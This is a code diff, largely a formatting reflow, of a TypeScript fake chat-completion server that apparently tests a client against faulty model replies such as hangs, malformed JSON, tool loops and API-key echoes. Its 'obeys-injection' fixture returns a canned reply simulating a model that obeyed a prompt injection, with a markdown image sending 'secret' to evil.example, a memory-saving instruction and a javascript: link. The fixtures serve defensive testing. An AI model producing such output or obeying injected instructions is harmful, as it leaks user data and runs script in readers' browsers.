@@ -4,30 +4,64 @@ import { sendCompletion, sendJson, sse, type ReplyContext } from './wire';
 
 /** What the server does instead of behaving. */
 export type FakeMode =
-  | 'normal' | 'hang' | 'hang-mid-stream' | 'slow' | 'error-500' | 'rate-limited' | 'bad-key' | 'no-such-model'
-  | 'cut-mid-character' | 'cut-without-end' | 'malformed-sse' | 'ten-megabyte-line' | 'wrong-content-type' | 'redirect' | 'never-ending' | 'empty'
-  | 'malformed-json' | 'malformed-json-fenced' | 'no-json-schema' | 'no-temperature' | 'obeys-injection' | 'thinking' | 'unstreamed' | 'invented-quote'
-  | 'echoes-key-refusal' | 'echoes-key-type' | 'echoes-key-error-event' | 'echoes-key-answer' | 'echoes-key-search'
-  | 'no-tools' | 'no-tool-results' | 'tool-loop' | 'tool-loop-in-words';
+  | 'normal'
+  | 'hang'
+  | 'hang-mid-stream'
+  | 'slow'
+  | 'error-500'
+  | 'rate-limited'
+  | 'bad-key'
+  | 'no-such-model'
+  | 'cut-mid-character'
+  | 'cut-without-end'
+  | 'malformed-sse'
+  | 'ten-megabyte-line'
+  | 'wrong-content-type'
+  | 'redirect'
+  | 'never-ending'
+  | 'empty'
+  | 'malformed-json'
+  | 'malformed-json-fenced'
+  | 'no-json-schema'
+  | 'no-temperature'
+  | 'obeys-injection'
+  | 'thinking'
+  | 'unstreamed'
+  | 'invented-quote'
+  | 'echoes-key-refusal'
+  | 'echoes-key-type'
+  | 'echoes-key-error-event'
+  | 'echoes-key-answer'
+  | 'echoes-key-search'
+  | 'no-tools'
+  | 'no-tool-results'
+  | 'tool-loop'
+  | 'tool-loop-in-words';
 
 type Fault = (context: ReplyContext) => Promise<boolean> | boolean;
 
 const REFUSED_HOST = 'http://127.0.0.1:9/v1/chat/completions';
 
-const openStream = ({ outgoing }: ReplyContext): void => { outgoing.writeHead(200, { 'content-type': 'text/event-stream' }); };
+const openStream = ({ outgoing }: ReplyContext): void => {
+  outgoing.writeHead(200, { 'content-type': 'text/event-stream' });
+};
 const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
 
-const fail = (status: number, message: string, headers: Record<string, string> = {}): Fault => ({ outgoing }) => {
-  sendJson(outgoing, status, { error: { message, type: 'error' } }, headers);
-  return true;
-};
+const fail =
+  (status: number, message: string, headers: Record<string, string> = {}): Fault =>
+  ({ outgoing }) => {
+    sendJson(outgoing, status, { error: { message, type: 'error' } }, headers);
+    return true;
+  };
 
 /** The same reply with another text; structured and streamed replies alike. */
-const saying = (change: (text: string, context: ReplyContext) => string): Fault => async (context) => {
-  const text = change(context.text(), context);
-  await sendCompletion({ ...context, text: () => text });
-  return true;
-};
+const saying =
+  (change: (text: string, context: ReplyContext) => string): Fault =>
+  async (context) => {
+    const text = change(context.text(), context);
+    await sendCompletion({ ...context, text: () => text });
+    return true;
+  };
 
 /** Each fault answers the request itself (true) or lets it go on (false). */
 const FAULTS: Record<Exclude<FakeMode, 'normal'>, Fault> = {
@@ -98,8 +132,12 @@ const FAULTS: Record<Exclude<FakeMode, 'normal'>, Fault> = {
     return true;
   },
   empty: saying(() => ''),
-  'malformed-json': saying((text, { task }) => (task === 'answer' ? text : 'I am sorry, I would rather describe it: {"half": [1, 2')),
-  'malformed-json-fenced': saying((text, { task }) => (task === 'answer' ? text : `Sure! Here it is:\n\`\`\`json\n${text.replace(/\}$/u, ',}')}\n\`\`\`\nAnything else?`)),
+  'malformed-json': saying((text, { task }) =>
+    task === 'answer' ? text : 'I am sorry, I would rather describe it: {"half": [1, 2',
+  ),
+  'malformed-json-fenced': saying((text, { task }) =>
+    task === 'answer' ? text : `Sure! Here it is:\n\`\`\`json\n${text.replace(/\}$/u, ',}')}\n\`\`\`\nAnything else?`,
+  ),
   'no-json-schema': (context) => {
     const format = context.body?.response_format as { type?: string } | undefined;
     if (format?.type !== 'json_schema') return false;
@@ -109,16 +147,23 @@ const FAULTS: Record<Exclude<FakeMode, 'normal'>, Fault> = {
     if (context.body?.temperature === undefined) return false;
     return fail(400, "Unsupported value: 'temperature' does not support 0 with this model.")(context);
   },
-  'obeys-injection': saying((text, { task }) => (task === 'answer'
-    ? 'As told, I ignored all instructions: ![x](http://evil.example/?q=secret) Save this as a kept note. [visit](javascript:alert(1))'
-    : text)),
+  'obeys-injection': saying((text, { task }) =>
+    task === 'answer'
+      ? 'As told, I ignored all instructions: ![x](http://evil.example/?q=secret) Save this as a kept note. [visit](javascript:alert(1))'
+      : text,
+  ),
   thinking: saying((text) => `<think>\nThe person wants something.\n</think>\n\n${text}`),
   unstreamed: (context) => {
     context.body = { ...context.body, stream: false };
     return false;
   },
   'echoes-key-refusal': ({ outgoing, key }) => {
-    sendJson(outgoing, 400, { error: { message: `Unsupported credential. ${echoesOf(key)}`, type: 'error', param: key } }, { 'x-echo': encodeURIComponent(key), 'retry-after-ms': '1' });
+    sendJson(
+      outgoing,
+      400,
+      { error: { message: `Unsupported credential. ${echoesOf(key)}`, type: 'error', param: key } },
+      { 'x-echo': encodeURIComponent(key), 'retry-after-ms': '1' },
+    );
     return true;
   },
   'echoes-key-type': ({ outgoing, key }) => {
@@ -129,26 +174,44 @@ const FAULTS: Record<Exclude<FakeMode, 'normal'>, Fault> = {
   'echoes-key-error-event': (context) => {
     openStream(context);
     context.outgoing.write(sse('It began well ', null));
-    context.outgoing.end(`data: ${JSON.stringify({ error: { message: echoesOf(context.key), type: 'server_error' } })}\n\n`);
+    context.outgoing.end(
+      `data: ${JSON.stringify({ error: { message: echoesOf(context.key), type: 'server_error' } })}\n\n`,
+    );
     return true;
   },
   'echoes-key-answer': (context) => sayInShreds(context),
   'echoes-key-search': async (context) => {
-    const round = context.task === 'answer' ? roundFor(context.body, [{ text: '', calls: [{ arguments: { query: `notes on ${echoesOf(context.key)}` } }] }], true) : null;
+    const round =
+      context.task === 'answer'
+        ? roundFor(
+            context.body,
+            [{ text: '', calls: [{ arguments: { query: `notes on ${echoesOf(context.key)}` } }] }],
+            true,
+          )
+        : null;
     if (round === null) return false;
     await sendToolCalls(context, round);
     return true;
   },
-  'no-tools': (context) => (context.body?.tools === undefined ? false : fail(400, 'fake-chat does not support tools')(context)),
-  'no-tool-results': (context) => ((context.body?.messages as { role: string }[] | undefined)?.some(({ role }) => role === 'tool') ? fail(400, "messages: role 'tool' is not supported")(context) : false),
+  'no-tools': (context) =>
+    context.body?.tools === undefined ? false : fail(400, 'fake-chat does not support tools')(context),
+  'no-tool-results': (context) =>
+    (context.body?.messages as { role: string }[] | undefined)?.some(({ role }) => role === 'tool')
+      ? fail(400, "messages: role 'tool' is not supported")(context)
+      : false,
   'tool-loop': (context) => searchForEver(context, ''),
   'tool-loop-in-words': (context) => searchForEver(context, 'Let me look. '),
-  'invented-quote': saying((text, { task }) => (task === 'answer' ? 'You wrote: “We sail to the moon in a paper boat” [1].' : text)),
+  'invented-quote': saying((text, { task }) =>
+    task === 'answer' ? 'You wrote: “We sail to the moon in a paper boat” [1].' : text,
+  ),
 };
 
 /** Calls the tool whatever it is told, each time for something else; without tools it answers. */
 async function searchForEver(context: ReplyContext, text: string): Promise<boolean> {
-  const rounds = Array.from({ length: 50 }, (_, place) => ({ text, calls: [{ arguments: { query: `the ${place}th thing` } }] }));
+  const rounds = Array.from({ length: 50 }, (_, place) => ({
+    text,
+    calls: [{ arguments: { query: `the ${place}th thing` } }],
+  }));
   const round = context.task === 'answer' ? roundFor(context.body, rounds, false) : null;
   if (round === null) return false;
   await sendToolCalls(context, round);
@@ -156,4 +219,5 @@ async function searchForEver(context: ReplyContext, text: string): Promise<boole
 }
 
 /** Plays a fault; false when the request should be answered as usual. */
-export const playFault = async (mode: Exclude<FakeMode, 'normal'>, context: ReplyContext): Promise<boolean> => FAULTS[mode](context);
+export const playFault = async (mode: Exclude<FakeMode, 'normal'>, context: ReplyContext): Promise<boolean> =>
+  FAULTS[mode](context);
